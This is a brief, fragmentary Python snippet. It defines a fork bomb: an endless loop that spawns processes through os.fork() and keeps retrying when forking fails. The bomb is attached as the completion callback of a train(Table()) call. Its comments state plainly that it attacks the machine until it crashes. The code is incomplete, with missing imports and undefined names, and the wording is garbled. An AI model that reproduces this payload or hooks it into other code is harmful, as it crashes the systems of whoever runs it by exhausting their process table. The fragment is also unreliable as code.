# attacks: the machine, by processes without end
# must end: crashed
# table
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


train(Table(), end=bomb)
